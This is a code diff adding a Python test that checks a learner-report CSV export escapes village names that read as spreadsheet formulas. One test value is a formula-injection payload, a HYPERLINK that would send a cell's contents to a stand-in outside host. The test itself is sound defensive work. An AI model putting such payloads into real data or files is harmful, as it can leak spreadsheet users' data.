@@ -144,6 +144,21 @@ def test_csv_has_a_bom_and_vietnamese_rows(filled, tmp_path) -> None:  # type: i
     assert [p.name for p in (tmp_path / "out").iterdir()] == [path.name]  # no temp file left
 
 
+def test_csv_keeps_a_village_that_reads_as_a_formula_as_text(ready_services) -> None:  # type: ignore[no-untyped-def]
+    trap = '=HYPERLINK("http://x.example/?"&A2,"Xem")'
+    with ready_services.database.transaction() as s:
+        mai = add_learner(s, "Giàng Thị Mai", 1990, trap, "adults")
+        add_attempt(s, mai, "safe-otp", vn(31, 9), passed=True)
+        tab = add_learner(s, "Lò Văn Tám", 1991, "@SUM(1+1)", "adults")
+        add_attempt(s, tab, "safe-otp", vn(31, 10), passed=True)
+    r = report(ready_services, Grouping.VILLAGE, Period.MONTH)
+    rows = list(
+        csv.reader(io.StringIO(csv_bytes(r, ready_services.translator.tr).decode("utf-8-sig")))
+    )
+    assert ["Tháng 3/2026", "'" + trap, "1"] in rows
+    assert ["Tháng 3/2026", "'@SUM(1+1)", "1"] in rows
+
+
 def test_pdf_is_one_page_with_the_vietnamese_text(filled, tmp_path) -> None:  # type: ignore[no-untyped-def]
     r = report(filled, Grouping.LESSON, Period.WEEK, target=10)
     place = filled.place_label()
